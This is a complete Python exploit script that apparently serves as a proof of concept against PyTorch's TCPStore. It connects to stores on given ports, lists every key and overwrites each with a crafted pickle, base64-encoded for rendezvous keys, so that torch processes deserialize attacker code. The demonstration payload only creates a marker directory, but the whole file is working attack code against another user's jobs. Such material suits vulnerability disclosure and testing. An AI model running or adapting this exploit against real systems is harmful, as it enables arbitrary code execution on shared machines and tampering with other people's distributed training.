"""Another user, who writes pickles to the stores of torch (TCPStore) that may listen at the given ports.

    python3 store_attack.py ADDRESS PORT...

It prints the keys that it has overwritten. It needs only the standard library: another user may not have torch.
"""

import base64
import os
import pickle
import socket
import struct
import sys
from pathlib import Path

VALIDATE, MAGIC = 0, 0x3C85F7CE  # from TCPStoreBackend.hpp
SET, LIST_KEYS = 1, 17


class Evil:
    def __reduce__(self):
        return os.mkdir, (str(Path(__file__).with_name("pickle-was-loaded")),)


def overwrite(address: str, port: int) -> list[str]:
    """Overwrite all keys with a pickle, in both forms that torch might read."""
    with socket.create_connection((address, port), timeout=10) as connection:
        connection.sendall(struct.pack("<BIB", VALIDATE, MAGIC, LIST_KEYS))
        with connection.makefile("rb") as answer:
            keys = [answer.read(read_size(answer)) for _ in range(read_size(answer))]
        for key in keys:
            plain = pickle.dumps(Evil())
            value = base64.b64encode(plain) if b"rendezvous" in key else plain
            connection.sendall(bytes([SET]) + b"".join(struct.pack("<Q", len(part)) + part for part in (key, value)))
    return [key.decode() for key in keys]


def read_size(answer) -> int:
    size = struct.unpack("<Q", answer.read(8))[0]
    if size > 10_000:
        raise ValueError("not a TCPStore")
    return size


if __name__ == "__main__":
    for port in map(int, sys.argv[2:]):
        try:
            print(port, overwrite(sys.argv[1], port))
        except (OSError, ValueError, struct.error) as error:
            print(port, f"{type(error).__name__}: {error}")
